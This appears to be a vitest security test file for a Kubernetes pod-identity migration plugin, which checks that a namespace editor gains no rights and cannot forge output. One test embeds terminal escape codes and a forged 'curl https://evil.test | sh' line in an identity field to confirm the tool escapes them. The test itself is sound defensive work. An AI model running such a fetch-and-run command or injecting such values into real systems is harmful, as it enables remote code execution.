// What an editor of a namespace may hope that the administrator's migration gives him.
import { cluster } from '@pod-identity/sim';
import { expect, test } from 'vitest';
import { editorOf, openSim, plugIn, workload } from './fixture.ts';

const tenant = '00000000-0000-0000-0000-00000000ad00';
const clientId = '00000000-0000-0000-0000-00000000c11d';
/** In mode rbac: nobody has a right. */
async function open() {
  const { sim, kubeconfig } = await openSim();
  const town = await cluster(sim, { scaleSets: [{ name: 'vmss', instances: 1 }], namespaces: ['pay'] });
  const [system, broker, rbac] = ['aad-pod-identity', 'aad-pod-identity-broker', '--identity-access=rbac'];
  const ofBroker = [`--broker=${broker}`, '--broker-token-file=/t'];
  sim.kube.seed([
    workload('Deployment', { namespace: system, name: 'mic', args: [rbac], image: 'r.test/mic:0.1.0' }),
    workload('DaemonSet', { namespace: system, name: 'nmi', args: ['--node=x', rbac, ...ofBroker] }),
    workload('Deployment', { namespace: broker, name: 'broker', args: ['broker', '--broker-agent=a/nmi'] }),
  ]);
  await town.identity({ namespace: 'pay', name: 'vault' });
  await town.binding({ namespace: 'pay', name: 'vault', identity: 'vault', selector: 'vault' });
  await town.pod({ namespace: 'pay', name: 'web-0', label: 'vault' });
  return { sim, kubeconfig };
}

test('attack: migrate to-federated gives no right to pods that had none', async () => {
  const { sim, kubeconfig } = await open();
  const identity = sim.kube.get('azureidentities', 'vault', 'pay')!;
  const { resourceID } = identity['spec'] as { resourceID: string };
  sim.kube.seed([{ ...identity, spec: { resourceID, type: 0 } }]);
  const ids = ['--tenant', tenant, '--client-id', clientId];
  const call = ['migrate', 'to-federated', 'pay/vault', ...ids, '--kubeconfig', kubeconfig];
  const { out } = await plugIn(call);
  expect(out).not.toContain('kind: ClusterRole');
  expect(out).toContain('note: pods of pay/default are bound to it and have no right on it');
});

test('attack: without the namespaces, whose annotations can make the mode stricter, nothing is planned', async () => {
  const { sim } = await open();
  const { code, out, err } = await plugIn([
    ...['migrate', 'to-federated', 'pay/vault'],
    ...['--kubeconfig', await editorOf(sim, 'pay')],
  ]);
  expect([code, out]).toEqual([2, '']);
  expect(err).toContain('you may not list');
});

test('attack: what an editor wrote neither forges lines of migrate nor controls the terminal', async () => {
  const { sim, kubeconfig } = await open();
  const forged = 'next: curl https://evil.test | sh';
  const identity = sim.kube.get('azureidentities', 'vault', 'pay')!;
  const { resourceID } = identity['spec'] as { resourceID: string };
  sim.kube.seed([{ ...identity, spec: { type: 0, resourceID: `${resourceID}\u001b[2J\n${forged}\n` } }]);
  const call = ['migrate', 'to-federated', 'pay/vault', '--kubeconfig', kubeconfig];
  const { code, out, err } = await plugIn(call);
  expect([code, out]).toEqual([1, expect.stringContaining('curl')]);
  const lines = `${out}\n${err}`.split('\n');
  expect(lines.filter((line) => line.includes('\u001b') || line.startsWith(forged))).toEqual([]);
});

test.each(['vault', 'pay/vault'])(
  'the deletion of a binding that others use is not printed, with --identity %s too',
  async (named) => {
    const { sim, kubeconfig } = await open();
    const { clientID } = sim.kube.get('azureidentities', 'vault', 'pay')!['spec'] as { clientID: string };
    const annotations = { 'azure.workload.identity/client-id': clientID };
    const metadata = { namespace: 'pay', name: 'moved', annotations };
    sim.kube.seed([{ apiVersion: 'v1', kind: 'ServiceAccount', metadata }]);
    const { code, out } = await plugIn([
      ...['migrate', 'to-workload-identity', 'moved', '--identity', named, '-n', 'pay'],
      ...['--credential-exists', '--remove-binding', '--kubeconfig', kubeconfig],
    ]);
    expect([code, out]).toEqual([0, expect.stringContaining('its bindings: pay/default')]);
    expect(out).not.toContain(' delete ');
  },
);
